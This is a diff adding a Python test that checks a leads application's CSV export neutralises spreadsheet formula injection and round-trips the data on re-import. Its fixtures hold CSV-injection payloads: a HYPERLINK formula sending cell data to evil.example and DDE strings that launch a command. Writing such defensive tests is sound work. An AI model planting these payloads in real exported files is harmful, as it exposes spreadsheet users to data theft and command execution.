@@ -162,3 +162,52 @@ async def test_a_rep_learns_of_a_colleagues_duplicate_without_its_number(
         own = await importexport.import_table(session, owner, table, NOW)
     assert [(bad.reason, bad.value) for bad in result.bad] == [("duplicate", "")]
     assert [(bad.reason, bad.value) for bad in own.bad] == [("duplicate", "1")]
+
+
+async def test_exported_cells_never_start_a_formula_and_read_back_exactly(
+    sessionmaker: Sessionmaker,
+) -> None:
+    hostile = {
+        "name": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+        "notes": "+cmd|' /C calc'!A0",
+        "tags": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "source": "-2+3+cmd|' /C calc'!A0",
+    }
+    async with transaction(sessionmaker) as session:
+        scope = await user_scope(session, 1)
+        draft = LeadDraft(
+            name=hostile["name"],
+            phone="+8613800138000",
+            source=hostile["source"],
+            notes=hostile["notes"],
+        )
+        saved = await leads.create_lead(session, scope, draft, NOW)
+        await leads.edit_field(session, scope, saved.lead, "tags", hostile["tags"], NOW)
+        quoted = await leads.create_lead(session, scope, LeadDraft(name="'Tom"), NOW)
+        await leads.move_stage(session, scope, quoted.lead, "lost", NOW, reason="=1+1")
+        first, _ = await importexport.export_csv(session, scope)
+    cells = [cell for row in csv.reader(io.StringIO(first.decode("utf-8-sig"))) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    for value in [*hostile.values(), "+8613800138000", "=1+1"]:
+        assert "'" + value in cells
+    assert "''Tom" in cells
+    async with transaction(sessionmaker) as session:
+        fresh = await user_scope(session, 2)
+        result = await importexport.import_table(
+            session, fresh, importexport.read_table(first, "export.csv"), NOW
+        )
+        assert result.stored == 2 and result.bad == []
+        second, _ = await importexport.export_csv(session, fresh)
+        imported = {
+            lead.number: lead
+            for lead in (await session.exec(select(Lead).where(Lead.team_id == fresh.team_id)))
+        }
+    assert imported[1].name == hostile["name"] and imported[1].phone == "+8613800138000"
+    assert imported[1].intent == hostile["notes"] and imported[1].tags == hostile["tags"]
+    assert imported[1].source == hostile["source"]
+    assert imported[2].name == "'Tom" and imported[2].lost_reason == "=1+1"
+
+    def body(data: bytes) -> list[list[str]]:
+        return [row[:-1] for row in csv.reader(io.StringIO(data.decode("utf-8-sig")))]
+
+    assert body(second) == body(first)
